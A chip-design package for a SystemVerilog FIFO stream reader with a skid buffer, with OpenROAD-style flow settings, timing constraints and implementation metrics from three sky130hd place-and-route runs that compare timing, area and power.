## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = fifo_stream_reader_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/fifo_reader_pkg.sv /design/src/rtl/fifo_stream_reader_if.sv /design/src/rtl/fifo_reader_skid.sv /design/src/rtl/fifo_stream_reader.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_CLOCK_PERIOD_IN_PS = 8100
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 0
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_MARGIN = 5
export CORE_UTILIZATION = 46
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY_LB_ADDON = 0.1
export SKIP_CTS_REPAIR_TIMING = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name clk -period 8.1 [get_ports clk]
set_input_delay 1.62 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.62 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
```

## src/rtl/fifo_reader_pkg.sv

```systemverilog
// Shared types and helpers for the FIFO stream reader.
package fifo_reader_pkg;

  // Word width of the FIFO host interface.
  localparam int unsigned DataWidthDef = 12;

  typedef enum logic [1:0] {
    StIdle,
    StRun,
    StDrain,
    StDone
  } reader_state_e;

  // Legal frame lengths are 2..256 beats.
  function automatic bit frame_len_ok(input int unsigned len);
    return (len >= 2) && (len <= 256);
  endfunction

endpackage

```

## src/rtl/fifo_stream_reader_if.sv

```systemverilog
// FIFO host read port plus downstream valid/ready stream.
// Optional m_cksum signal when READER_CKSUM_EN is defined.
interface fifo_stream_reader_if #(
  parameter int unsigned DATA_WIDTH = fifo_reader_pkg::DataWidthDef
);
  logic                  fifo_empty;
  logic [DATA_WIDTH-1:0] fifo_read_data;
  logic                  fifo_read_enable;
  logic                  m_valid;
  logic                  m_ready;
  logic [DATA_WIDTH-1:0] m_data;
  logic                  m_last;
`ifdef READER_CKSUM_EN
  logic [DATA_WIDTH-1:0] m_cksum;

  modport master (
    input  fifo_empty, fifo_read_data, m_ready,
    output fifo_read_enable, m_valid, m_data, m_last, m_cksum
  );
  modport slave (
    output fifo_empty, fifo_read_data, m_ready,
    input  fifo_read_enable, m_valid, m_data, m_last, m_cksum
  );
`else
  modport master (
    input  fifo_empty, fifo_read_data, m_ready,
    output fifo_read_enable, m_valid, m_data, m_last
  );
  modport slave (
    output fifo_empty, fifo_read_data, m_ready,
    input  fifo_read_enable, m_valid, m_data, m_last
  );
`endif
endinterface

```

## src/rtl/fifo_reader_skid.sv

```systemverilog
// Two-entry skid buffer: push at tail, pop from head, order preserved.
module fifo_reader_skid #(
  parameter int unsigned DATA_WIDTH = fifo_reader_pkg::DataWidthDef
) (
  input  logic                  clk,
  input  logic                  rst,
  input  logic                  push_i,
  input  logic [DATA_WIDTH-1:0] push_data_i,
  input  logic                  pop_i,
  output logic [1:0]            count_o,
  output logic [DATA_WIDTH-1:0] head_o,
  output logic                  valid_o,
  output logic                  full_o
);

  logic [DATA_WIDTH-1:0] mem_q [2];
  logic [DATA_WIDTH-1:0] mem_d [2];
  logic [1:0]            count_q, count_d;
  logic [1:0]            wr_idx;

  // Next-state: shift on pop, then write the incoming word behind the survivors.
  always_comb begin
    mem_d   = mem_q;
    count_d = count_q;
    wr_idx  = count_q - {1'b0, pop_i};
    if (pop_i) begin
      mem_d[0] = mem_q[1];
    end
    if (push_i && (wr_idx < 2'd2)) begin
      mem_d[wr_idx[0]] = push_data_i;
    end
    count_d = count_q + {1'b0, push_i} - {1'b0, pop_i};
  end

  // Storage and occupancy registers.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      mem_q[0] <= '0;
      mem_q[1] <= '0;
      count_q  <= '0;
    end else begin
      mem_q   <= mem_d;
      count_q <= count_d;
    end
  end

  assign count_o = count_q;
  assign head_o  = mem_q[0];
  assign valid_o = (count_q != 2'd0);
  assign full_o  = (count_q == 2'd2);

endmodule

```

## src/rtl/fifo_stream_reader.sv

```systemverilog
// Reads the FIFO host interface and re-emits words as a framed valid/ready
// stream. Optional frame XOR checksum output guarded by READER_CKSUM_EN.
module fifo_stream_reader
  import fifo_reader_pkg::*;
#(
  parameter int unsigned DATA_WIDTH = DataWidthDef,
  parameter int unsigned FRAME_LEN  = 8,
  parameter int unsigned CNT_WIDTH  = 16
) (
  input  logic                 clk,
  input  logic                 rst,
  input  logic                 enable_i,
  input  logic                 drain_req_i,
  output logic                 busy_o,
  output logic                 done_o,
  output logic [CNT_WIDTH-1:0] frame_count_o,
  fifo_stream_reader_if.master bus_io
);

  if (!frame_len_ok(FRAME_LEN)) begin : g_bad_frame_len
    $error("fifo_stream_reader: FRAME_LEN must be within 2..256");
  end

  localparam int unsigned BeatW = $clog2(FRAME_LEN);

  reader_state_e         state_q, state_d;
  logic                  pending_q;
  logic [BeatW-1:0]      beat_q, beat_d;
  logic [CNT_WIDTH-1:0]  frame_q, frame_d;
  logic [1:0]            buf_count;
  logic [DATA_WIDTH-1:0] head;
  logic                  buf_valid;
  logic                  buf_full;
  logic                  pop;
  logic                  read_en;
  logic                  drain_final;
  logic                  last;
  logic [2:0]            occ;

  fifo_reader_skid #(
    .DATA_WIDTH (DATA_WIDTH)
  ) u_skid (
    .clk         (clk),
    .rst         (rst),
    .push_i      (pending_q),
    .push_data_i (bus_io.fifo_read_data),
    .pop_i       (pop),
    .count_o     (buf_count),
    .head_o      (head),
    .valid_o     (buf_valid),
    .full_o      (buf_full)
  );

  // Read issue and framing: only read when the word is guaranteed a skid slot.
  always_comb begin
    pop         = buf_valid && bus_io.m_ready;
    occ         = {1'b0, buf_count} + {2'b0, pending_q} - {2'b0, pop};
    read_en     = (((state_q == StRun) && enable_i) || (state_q == StDrain)) &&
                  !bus_io.fifo_empty && (occ < 3'd2) && !(buf_full && !pop);
    drain_final = (state_q == StDrain) && bus_io.fifo_empty && !pending_q &&
                  (buf_count == 2'd1);
    last        = (beat_q == BeatW'(FRAME_LEN - 1)) || drain_final;
  end

  // State transitions; drain has priority over enable.
  always_comb begin
    state_d = state_q;
    unique case (state_q)
      StIdle: begin
        if (drain_req_i) begin
          state_d = StDrain;
        end else if (enable_i) begin
          state_d = StRun;
        end
      end
      StRun: begin
        if (drain_req_i) begin
          state_d = StDrain;
        end else if (!enable_i && (buf_count == 2'd0) && !pending_q) begin
          state_d = StIdle;
        end
      end
      StDrain: begin
        if (bus_io.fifo_empty && !pending_q && (buf_count == 2'd0)) begin
          state_d = StDone;
        end
      end
      StDone:  state_d = StIdle;
      default: state_d = StIdle;
    endcase
  end

  // Beat position and saturating completed-frame count.
  always_comb begin
    beat_d  = beat_q;
    frame_d = frame_q;
    if (pop) begin
      if (last) begin
        beat_d = '0;
        if (frame_q != {CNT_WIDTH{1'b1}}) begin
          frame_d = frame_q + 1'b1;
        end
      end else begin
        beat_d = beat_q + 1'b1;
      end
    end
    if ((state_q == StDrain) && (state_d == StDone)) begin
      beat_d = '0;
    end
  end

  // Control registers; pending marks the cycle the FIFO's registered data is live.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q   <= StIdle;
      pending_q <= 1'b0;
      beat_q    <= '0;
      frame_q   <= '0;
    end else begin
      state_q   <= state_d;
      pending_q <= read_en;
      beat_q    <= beat_d;
      frame_q   <= frame_d;
    end
  end

`ifdef READER_CKSUM_EN
  logic [DATA_WIDTH-1:0] acc_q, acc_d;

  // XOR of popped beats in the current frame; cleared at frame end and on DONE.
  always_comb begin
    acc_d = acc_q;
    if (pop) begin
      acc_d = last ? '0 : (acc_q ^ head);
    end
    if (state_q == StDone) begin
      acc_d = '0;
    end
  end

  // Checksum accumulator register.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      acc_q <= '0;
    end else begin
      acc_q <= acc_d;
    end
  end

  assign bus_io.m_cksum = acc_q ^ head;
`endif

  assign bus_io.fifo_read_enable = read_en;
  assign bus_io.m_valid          = buf_valid;
  assign bus_io.m_data           = head;
  assign bus_io.m_last           = buf_valid && last;
  assign busy_o                  = (state_q != StIdle);
  assign done_o                  = (state_q == StDone);
  assign frame_count_o           = frame_q;

endmodule

```

## src/flat_wrapper.sv

```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module fifo_stream_reader_flat import fifo_reader_pkg::*;
#(
  parameter int unsigned DATA_WIDTH = DataWidthDef,
  parameter int unsigned FRAME_LEN  = 8,
  parameter int unsigned CNT_WIDTH  = 16
)
  (clk, rst, enable_i, drain_req_i, busy_o, done_o, frame_count_o, bus_io_fifo_empty, bus_io_fifo_read_data, bus_io_m_ready, bus_io_fifo_read_enable, bus_io_m_valid, bus_io_m_data, bus_io_m_last);
  fifo_stream_reader_if #(.DATA_WIDTH(DATA_WIDTH)) bus_io_i ();
  input  logic clk;
  input  logic rst;
  input  logic enable_i;
  input  logic drain_req_i;
  output logic busy_o;
  output logic done_o;
  output logic [CNT_WIDTH-1:0] frame_count_o;
  input wire logic [$bits(bus_io_i.fifo_empty)-1:0] bus_io_fifo_empty;
  input wire logic [$bits(bus_io_i.fifo_read_data)-1:0] bus_io_fifo_read_data;
  input wire logic [$bits(bus_io_i.m_ready)-1:0] bus_io_m_ready;
  output wire logic [$bits(bus_io_i.fifo_read_enable)-1:0] bus_io_fifo_read_enable;
  output wire logic [$bits(bus_io_i.m_valid)-1:0] bus_io_m_valid;
  output wire logic [$bits(bus_io_i.m_data)-1:0] bus_io_m_data;
  output wire logic [$bits(bus_io_i.m_last)-1:0] bus_io_m_last;
  assign bus_io_i.fifo_empty = bus_io_fifo_empty;
  assign bus_io_i.fifo_read_data = bus_io_fifo_read_data;
  assign bus_io_i.m_ready = bus_io_m_ready;
  assign bus_io_fifo_read_enable = bus_io_i.fifo_read_enable;
  assign bus_io_m_valid = bus_io_i.m_valid;
  assign bus_io_m_data = bus_io_i.m_data;
  assign bus_io_m_last = bus_io_i.m_last;
  fifo_stream_reader #(.DATA_WIDTH(DATA_WIDTH), .FRAME_LEN(FRAME_LEN), .CNT_WIDTH(CNT_WIDTH)) u_core (.clk(clk), .rst(rst), .enable_i(enable_i), .drain_req_i(drain_req_i), .busy_o(busy_o), .done_o(done_o), .frame_count_o(frame_count_o), .bus_io(bus_io_i));
endmodule
```

==> impl_metrics.ini, run 1 <==
[sta]
setup_viol = 0
rsz0062_at_grt = false
worst_pin_slew_ps = 1120
maxSlewViolCount = 0
setup_tns_ps = 0
period_needed_ps = 5410
fin_crit_sh_pct = 66.8
max_clock_freq_ghz = 0.185
skew_ps = 7.19
setup_slack_ps = 2690
final-hold-violation-count = 0
slew_headroom_pct = 25.1

[clocking]
clk_latency_ps = 300
cts.sinks = 48
htree_levels = 2
numCtsBuffers = 5
clk_pin_slew_ps = 80
cts_tree = done
clockBufferDepth = 2
root_buffer = clkbuf_8

[cells_and_area]
regArea_mm2 = 0.00120
diodes = 0
fin_area_mm2 = 0.00282
nFillCells = 491
multi_input_area_mm2 = 0.00116
fin_nets = 276
syn_to_final_growth_pct = 11.0
drive_gt1_share_pct = 38.6

[pwr]
p_leak_nw = 1.41
power_density_mw_per_mm2 = 298
internal_power_w = 0.000553
power.share.clock_pct = 20.3
switching_share_pct = 34.2
seq_power_share_pct = 44.9
p_total_w = 0.000840
power_frac_comb_pct = 34.8
switching_power_w = 0.000287
irDropWorstVdd_uv = 173

[job]
cap_violations = 0

[placement]
hpwl_mm = 3.28
post-place-ws_ps = 2700
io_buffer_count = 50
post_dp_cell_area_mm2 = 0.00271
gp_congestion = 0.726

[logic_synthesis]
synth_edf_count = 0
avgSynthCellArea_um2 = 11.7
yosys_register_bits = 48
synthArstFlopShare_pct = 100
synth_fp_nets = 241
synth_flop_cell = dfrtp_1
syn_area_mm2 = 0.00254
ys_types = 44
seq_area_frac_synth_pct = 47.3
yosys_warnings = 0
synth_cells = 218

[drt]
drt_iter0_drc = 47
wl_per_cell_um = 14.4
drc = 0
final_antenna_net_count = 0
via_count = 1686
viasPerCell = 5.17
drt-total-wl_mm = 4.71
dr.pass1.iters = 4

[critical_path]
end_kind = primary output
cp.required_ps = 6480
critPathKind = in2out
reg2reg_depth = 9
arrival_ps = 3790
startpoint_type = input pin
reg2reg_to = u_core.pending_q$_DFF_PP0_
worst-path-max-fanout = 17
setup.worst_path.start = bus_io_m_ready
r2r_slack_ps = 5340
cp-endpoint = bus_io_fifo_read_enable
r2r-start = u_core.u_skid.count_o[1]$_DFF_PP0_

[global_route]
grt_pass1_vias = 1638
grt_max_degree = 49
grt_pass1_wl_mm = 8.02
grt.overflow.total = 0
antenna_found_initial = 0
grt_use_total_pct = 13.8

[die]
dieArea_mm2 = 0.00711
rows = 27
dieWidth_um = 84.3
top_level_ports = 51
initial_core_util_pct = 46.7
die_h_um = 84.3
core_area_mm2 = 0.00544

[status]
status = completed

[worst_hold_path]
hp-class = reg2reg
## cell usage in the layout, fill, tap and decap left out, types with 2 or more instances in the layout
master,instances
nand3_1,8
and3_4,3
mux2_2,13
a2111oi_2,4
clkbuf_8,5
inv_1,2
buf_2,50
dfrtp_1,48
a32oi_1,2
mux2i_1,12
nor2_1,7
nand2_1,23
xor2_1,15
o21ai_0,15
or2_2,2
nor2b_1,2
ha_1,4
a211oi_2,6
and3_1,3
nor4_2,3
a21oi_1,3
## worst min path at each step
stage / from / endpoint / cells after the start
floorplan: flop / flop / 1
global placement: u_core.frame_count_o[6]$_DFFE_PP0P_ / u_core.frame_count_o[6]$_DFFE_PP0P_ / 1
detailed placement: u_core.frame_count_o[13]$_DFFE_PP0P_ / u_core.frame_count_o[13]$_DFFE_PP0P_ / 1
CTS: u_core.frame_count_o[13]$_DFFE_PP0P_ / u_core.frame_count_o[13]$_DFFE_PP0P_ / 1
global route: flop / flop / 1
finish: u_core.frame_count_o[13]$_DFFE_PP0P_ / u_core.frame_count_o[13]$_DFFE_PP0P_ / 1
## cell families (layout without fill, tap and decap cells)
| family | Yosys count | count (layout) | synth area share [%] |
|---|---|---|---|
| mux | 26 | 26 | 11.1 |
| simple gates | 64 | 64 | 14.9 |
| fa+ha+maj | 5 | 5 | 2.76 |
| compound gates | 35 | 35 | 11.8 |
| xor+xnor | 15 | 15 | 5.17 |
| flops | 48 | 48 | 47.3 |
| buf+inv | 25 | 61 | 7.04 |
## metrics by stage
stage,std cells,hold WS (ps),util [%]
after floorplan,218,479,-
after global placement,318,477,49.9
after detailed placement,318,485,49.9
after CTS,326,497,51.9
after global routing,326,522,51.9
final,326,499,51.9
## synthesized netlist by cell type (2+ instances only)
cell	n	share of area (%)
dfrtp_1	48	47
nand2_1	23	3.4
o21ai_0	16	3.2
xor2_1	15	5.2
buf_4	13	3.8
mux2_2	13	5.8
mux2i_1	12	4.7
nand3_1	8	1.6
nor2_1	7	1.0
a211oi_2	6	3.0
a2111oi_2	4	2.4
ha_1	4	2.0
a21oi_1	3	0.59
and3_1	3	0.74
and3_4	3	1.3
buf_6	3	1.3
clkbuf_1	3	0.44
inv_1	3	0.44
nor4_2	3	1.5
a32oi_1	2	0.69
nor2b_1	2	0.49
or2_2	2	0.49
## per-layer routing
metal / routed length, um / GRT usage, %
met2: 2170 / 21.7
met5: 0 / 0
met3: 266 / 4.91
met1: 2220 / 18.3
met4: 50 / 3.51
## power by group through the flow
stage | registers (W) | logic (W) | clock network, W
finish | 0.000377 | 0.000292 | 0.000171
global placement | 0.000382 | 0.000290 | 0
global route | 0.000392 | 0.000330 | 0.000186
floorplan | 0.000371 | 0.000256 | 0
detailed placement | 0.000383 | 0.000298 | 0
CTS | 0.000379 | 0.000300 | 0.000176
## cell type report
| class | count | share of cell area, % |
|---|---|---|
| flip-flops and latches | 48 | 42.6 |
| clock buffers | 6 | 2.57 |
| clock inverters | 2 | 1.24 |
| inverters | 3 | 0.399 |
| multi-input cells | 145 | 41.2 |
| repair buffers | 50 | 8.87 |
| well taps | 72 | 3.19 |
## worst max-delay path: stages
cell	delay [ps]
buf_2	170
nand2_2	320
or2_2	430
nand2_1	70
ha_1	170
fa_1	440
nor4_1	350
buf_2	200
(Power assumes the default switching activity.)
==> run 2, diff against run 1 <==
Settings changed: ABC_AREA set to 1, ABC_CLOCK_PERIOD_IN_PS 8100 to 5100, CORE_UTILIZATION 46 to 40.
Clock period 8.1 ns to 5.1 ns, I/O delays scaled along.
==> run 2 against run 1 <==
Worst setup slack got worse by 2000 ps. Non-clock buffer count unchanged. Clock power increased by 61%. Area after synthesis increased by 2.2%. Clock skew decreased by 3.2 ps. Register-to-register slack got worse by 2800 ps. Critical path type unchanged.
==> impl_metrics.ini, run 2 <==
[status]
status = completed

[logic_synthesis]
seq_area_frac_synth_pct = 46.3
synth_top_family_by_area = simple AND/OR/NAND/NOR gates
synth_edf_count = 0
syn_area_mm2 = 0.00260
synthArstFlopShare_pct = 100
synthTopCellsByArea = dfrtp_1 46%, nand2_1 23%, nor2_1 5.2%, buf_4 4.0%, inv_1 3.0%
synth-simple-area-share_pct = 34.4
synth_top_area_share_pct = 46.3
synth_fp_nets = 371
synthAdderAreaFrac_pct = 2.70
ys_types = 27
synth_xor_area_share_pct = 2.36
muxShareOfSynthArea_pct = 0
synth_top_area_cell = dfrtp_1
synth_compound_area_share_pct = 5.49
yosys_warnings = 0
synth_flop_cell = dfrtp_1
yosysMostFrequentCell = nand2_1
avgSynthCellArea_um2 = 7.46
synth_cells = 348
synthTopCellsByCount = 158 x nand2_1, 48 x dfrtp_1, 36 x nor2_1, 21 x inv_1, 14 x buf_4
yosys_register_bits = 48

[placement]
dpl.cell_count = 455
hpwl_mm = 4.14
gp_congestion = 0.752
post_dp_cell_area_mm2 = 0.00281
io_buffer_count = 50

[critical_path]
end_kind = primary output
worst-path-max-fanout = 19
setup.worst_path.start = bus_io_m_ready
arrival_ps = 3390
cp.required_ps = 4080
critPathKind = in2out
startpoint_type = input pin
r2r-start = u_core.u_skid.count_o[1]$_DFF_PP0_

[drt]
drt_iter0_drc = 98
dr.pass1.iters = 4
drt-total-wl_mm = 5.82
drc = 0
wl_per_cell_um = 12.6
final_antenna_net_count = 0
viasPerCell = 4.69
via_count = 2173

[clocking]
htree_levels = 2
numCtsBuffers = 5
cts_tree = done
cts.sinks = 48
clk_pin_slew_ps = 90
clockBufferDepth = 2
clk_latency_ps = 300
root_buffer = clkbuf_8

[cells_and_area]
drive_gt1_share_pct = 17.9
nFillCells = 657
regArea_mm2 = 0.00120
fin_nets = 408
diodes = 0
syn_to_final_growth_pct = 12.2
multi_input_area_mm2 = 0.00117
final_cell_count_no_fill = 463
final_common_cell = nand2_1
final_cell_mix = 158 x nand2_1, 50 x buf_2, 48 x dfrtp_1
fin_area_mm2 = 0.00291
fin_util_pct = 45.9

[sta]
setup_tns_ps = 0
max_clock_freq_ghz = 0.227
setup_viol = 0
slew_headroom_pct = 32.5
period_needed_ps = 4410
fin_crit_sh_pct = 86.4
maxSlewViolCount = 0
rsz0062_at_grt = false
worst_pin_slew_ps = 1010
skew_ps = 3.95
final-hold-violation-count = 0

[worst_hold_path]
hp-class = reg2reg

[global_route]
grt.overflow.total = 0
grt_pass1_wl_mm = 10.7
grt_use_total_pct = 15.5
grt_pass1_vias = 2238
antenna_found_initial = 0
grt_max_degree = 49

[die]
initial_core_util_pct = 40.9
die_h_um = 90.6
rows = 29
dieArea_mm2 = 0.00820
top_level_ports = 51
core_area_mm2 = 0.00635
dieWidth_um = 90.6

[job]
cap_violations = 0

[pwr]
irDropWorstVdd_uv = 226
p_leak_nw = 1.55
power_density_mw_per_mm2 = 443
run 2: changes by cell type after synthesis, sizes merged, moves of 6 or more:
cell    delta
a31oi     +12
a211oi     -6
o21ai     -10
mux2i     -12
nor2      +34
xor2      -12
and3       -6
nand4      +6
inv       +21
nand2    +134
mux2      -14
run 2: final timing paths:
check | endpoint | slack [ps] | cells past startpoint
setup / recovery | bus_io_fifo_read_enable | 690 | 12
hold / removal | flop | 480 | 2
setup reg to reg | u_core.pending_q$_DFF_PP0_ | 2490 | 10
hold reg to reg | flop | 480 | 2
max in group asynchronous | u_core.u_skid.count_o[1]$_DFF_PP0_ | 3520 | 2
min in group asynchronous | u_core.u_skid.head_o[11]$_DFF_PP0_ | 950 | 2
run 2: worst max-delay path, cell delays in order:
cell     delay [ps]
buf_2           130
inv_2            50
nor2_4          340
inv_2           250
or2_2           360
nand2_1          70
ha_1            170
fa_1            430
nor2_1          100
nand2_1          50
nor3_1          230
buf_2           170
run 2: layout make-up:
class	count	share of cell area (%)
Tap cell	77	3.31
Multi-Input combinational cell	256	40.1
Clock inverter	2	1.20
Clock buffer	6	2.49
Inverter	24	3.09
Sequential cell	48	41.2
Timing Repair Buffer	50	8.59
run 2: routing by layer:
metal	up-vias	GRT usage, %	routed length (um)
met2	37	25.2	2750
met3	4	4.08	244
met5	-	0	0
li1	1151	-	-
met1	981	20.8	2790
met4	0	3.35	37
run 2: cells by family (layout without fill, tap and decap cells):
group                      Yosys count  count (layout)
AOI/OAI and AO/OA                   23              23
xor gates and xnor gates             7               7
adders and majority gates            5               5
buffers and inverters               44              82
DFF                                 48              48
and+or+nand+nor                    221             221
run 2: power breakdown:
part	switching, W	leakage (nW)	internal (W)
clock network	0.000130	0.0552	0.000146
registers	0.0000793	0.632	0.000492
logic	0.000274	0.868	0.000170
run 2: metrics by stage:
step,total power (W),setup slack [ps],hold WS [ps]
6_report,0.00129,694,484
5_1_grt,0.00141,409,507
4_1_cts,0.00132,640,489
3_5_place_dp,0.00103,639,465
3_3_place_gp,0.00103,704,461
2_1_floorplan,0.000934,1330,449
==> run 3, diff against run 2 <==
Settings changed: CTS_BUF_LIST set to sky130_fd_sc_hd__clkbuf_8.
==> run 3 against run 2 <==
Global-route usage unchanged. Clock power about the same. Cell area unchanged. Worst setup slack about the same. Combinational power about the same. Sequential power about the same. First-iteration DRC count unchanged. Sequential share of layout area unchanged. Power decreased by 0.14%. Clock skew about the same. Hold slack unchanged. Critical endpoint unchanged.
==> impl_metrics.ini, run 3 (synthesis gave the netlist of run 2 again) <==
[cells_and_area]
nFillCells = 657
final_common_cell = nand2_1
syn_to_final_growth_pct = 12.2
multi_input_area_mm2 = 0.00117
diodes = 0
fin_nets = 408
regArea_mm2 = 0.00120
final_cell_mix = 158 x nand2_1, 50 x buf_2, 48 x dfrtp_1
drive_gt1_share_pct = 17.9

[global_route]
antenna_found_initial = 0
grt.overflow.total = 0
grt_pass1_wl_mm = 10.7
grt_max_degree = 49
grt_use_total_pct = 15.5
grt_pass1_vias = 2238

[die]
dieWidth_um = 90.6
dieArea_mm2 = 0.00820
core_area_mm2 = 0.00635
die_h_um = 90.6
rows = 29
initial_core_util_pct = 40.9
top_level_ports = 51

[clocking]
cts_tree = done
clk_pin_slew_ps = 90
numCtsBuffers = 5
htree_levels = 2
clockBufferDepth = 2
cts.sinks = 48
clk_latency_ps = 300
root_buffer = clkbuf_8

[pwr]
power_density_mw_per_mm2 = 443
irDropWorstVdd_uv = 226
p_leak_nw = 1.56

[job]
cap_violations = 0

[drt]
drt_iter0_drc = 98
via_count = 2173
drc = 0
final_antenna_net_count = 0
drt-total-wl_mm = 5.82
viasPerCell = 4.69
dr.pass1.iters = 4
wl_per_cell_um = 12.6

[status]
status = completed

[worst_hold_path]
hp-class = reg2reg

[critical_path]
path_cells = buf_2, inv_2, nor2_4, inv_2, or2_2, nand2_1, ha_1, fa_1, nor2_1, nand2_1, nor3_1, buf_2
worst-path-max-fanout = 19
end_kind = primary output
path_buf_inv = 4
arrival_ps = 3390
startpoint_type = input pin
critPathTopFamily = simple AND/OR/NAND/NOR gates
critPathKind = in2out
cp.required_ps = 4080
critPathMaxStageDelay_ps = 430
cpMaxStageDelayCell = fa_1

[sta]
rsz0062_at_grt = false
max_clock_freq_ghz = 0.227
slew_headroom_pct = 32.5
period_needed_ps = 4410
skew_ps = 4.34
worst_pin_slew_ps = 1010
setup_viol = 0
fin_hold_ws_ps = 484
setup_tns_ps = 0
fin_crit_sh_pct = 86.4
final-hold-violation-count = 0
maxSlewViolCount = 0

[placement]
io_buffer_count = 50
gp_congestion = 0.752
hpwl_mm = 4.14
-- run 3: final cells by class --
cell class	instances	area share, %
inverter	24	3.09
timing repair buffer	50	8.59
sequential	48	41.2
tap	77	3.31
clock inverter	3	1.33
multi-input combinational	256	40.1
clock buffer	5	2.36
-- run 3: layer usage --
| layer | share of wire, % | wire length, um | up-vias | global-route usage, % |
|---|---|---|---|---|
| met1 | 48 | 2790 | 981 | 20.8 |
| met3 | 4.2 | 244 | 4 | 4.08 |
| li1 | - | - | 1151 | - |
| met4 | 0.64 | 37 | 0 | 3.35 |
| met5 | 0 | 0 | - | 0 |
| met2 | 47 | 2750 | 37 | 25.2 |
-- run 3: worst paths after layout --
kind	startpoint	to	slack, ps	depth (start not counted)
max in group asynchronous	rst	u_core.u_skid.count_o[1]$_DFF_PP0_	3520	2
hold reg to reg	flop	flop	480	2
hold / removal	flop	flop	480	2
setup / recovery	bus_io_m_ready	bus_io_fifo_read_enable	690	12
min in group asynchronous	rst	u_core.u_skid.head_o[11]$_DFF_PP0_	950	2
setup reg to reg	u_core.u_skid.count_o[1]$_DFF_PP0_	u_core.pending_q$_DFF_PP0_	2480	10
-- run 3: metrics by stage --
stage | total power (W) | cells | util [%] | setup WS [ps] | area [um^2]
final | 0.00129 | 463 | 45.9 | 694 | 2910
after global routing | 0.00141 | 463 | 45.9 | 409 | 2910
after floorplan | 0.000934 | 348 | - | 1330 | 2600
after detailed placement | 0.00103 | 455 | 44.2 | 639 | 2810
after global placement | 0.00103 | 455 | 44.2 | 704 | 2810
after CTS | 0.00131 | 463 | 45.9 | 640 | 2910
-- run 3: tightest hold or removal path, cell delays in order, from the launching register on --
cell and delay (ps):
dfrtp_1 350, nand2_1 50, nand2_1 50
-- run 3: power breakdown --
| part | total [W] | internal, W | leakage, nW | switching (W) |
|---|---|---|---|---|
| sequential | 0.000571 | 0.000492 | 0.632 | 0.0000793 |
| combinational | 0.000444 | 0.000170 | 0.868 | 0.000274 |
| clock | 0.000274 | 0.000144 | 0.0593 | 0.000130 |
